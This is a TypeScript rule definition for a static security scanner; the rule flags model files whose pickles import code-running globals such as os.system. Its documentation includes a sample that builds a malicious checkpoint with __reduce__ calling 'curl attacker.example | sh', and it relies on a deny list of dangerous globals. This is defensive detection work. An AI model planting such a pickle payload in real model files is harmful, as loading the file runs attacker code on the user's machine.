// ML301: a model file in the workspace (a checkpoint, a pickle, a joblib or NumPy file) whose pickle
// imports a global that runs code when it is unpickled. The finding is made by the model scan
// (server/src/models/), not by the walk of Python code: `check` is inert, like ML900's.
import { defineRule, cweUrl } from './rule';
import { CODE_RUNNING_GLOBALS, globalListMarkdown } from '../models/globals';
import { MODEL_FILE_EXTENSIONS } from '../models/modelFile';

export const MODEL_FILE_OPTIONS = `Model files are found under the same discovery rules as Python files (\`.gitignore\`, \`exclude\`) when their names end in ${MODEL_FILE_EXTENSIONS.map((e) => `\`${e}\``).join(', ')}; \`mlsec scan --no-model-files\` skips them. A \`# nosec\` comment cannot be written into a binary file: allow a file in \`pyproject.toml\` with a reason, \`[tool.mlsec] allow-model-files = [{ path = "checkpoints/legacy.pt", reason = "our own training output" }]\` (paths relative to the project root, globs allowed), or record it in a baseline.`;

export default defineRule({
  code: 'ML301',
  name: 'pickle-runs-code',
  summary: 'a model file whose pickle imports a global that runs code (`os.system`, `builtins.eval`, …)',
  severity: 'error',
  confidence: 'high',
  cwe: 502,
  fix: 'none',
  fixSafety: 'none',
  match: {},
  docs: {
    whatItDoes: `Reads the pickles inside model files in the workspace — raw pickles, PyTorch checkpoints (zip and legacy formats), joblib files, NumPy \`.npy\`/\`.npz\` files with object arrays — without loading them, and reports a file whose pickle imports a global that runs code when it is unpickled, or a global mlsec cannot name (a \`STACK_GLOBAL\` on computed values, an extension-registry code). The finding sits on the file's first line. The list of globals, with where each fact comes from (picklescan's, ModelScan's and fickling's documented deny lists; the Python documentation; mlsec's own additions):\n\n${globalListMarkdown(CODE_RUNNING_GLOBALS)}`,
    whyBad:
      '`pickle.load`, `torch.load(weights_only=False)`, `joblib.load` and `numpy.load(allow_pickle=True)` import every global the pickle names and call what it asks them to call. A file that imports `os.system` runs a shell command the moment it is loaded: the checkpoint is a program. No editor shows this, and the loading code looks the same for a harmless file and a hostile one.',
    example:
      '# how such a file is made (never load it):\nimport os, pickle\n\nclass Payload:\n    def __reduce__(self):\n        return (os.system, ("curl attacker.example | sh",))\n\nwith open("checkpoints/best.pt", "wb") as f:\n    pickle.dump(Payload(), f)',
    useInstead:
      '# save tensors only, in a format that holds no code\nfrom safetensors.torch import save_file\n\nsave_file(model.state_dict(), "checkpoints/best.safetensors")\n# or load with torch.load(path, weights_only=True), which refuses these globals',
    fixSafety: 'No fix: the file has to be replaced (re-exported from a trusted source) or deleted.',
    options: MODEL_FILE_OPTIONS,
    references: [
      'https://docs.python.org/3/library/pickle.html#restricting-globals',
      'https://github.com/mmaitre314/picklescan',
      'https://github.com/protectai/modelscan',
      'https://github.com/trailofbits/fickling',
      cweUrl(502),
    ],
  },
  check() {
    // Inert: findings come from the model scan (see the header comment).
  },
});
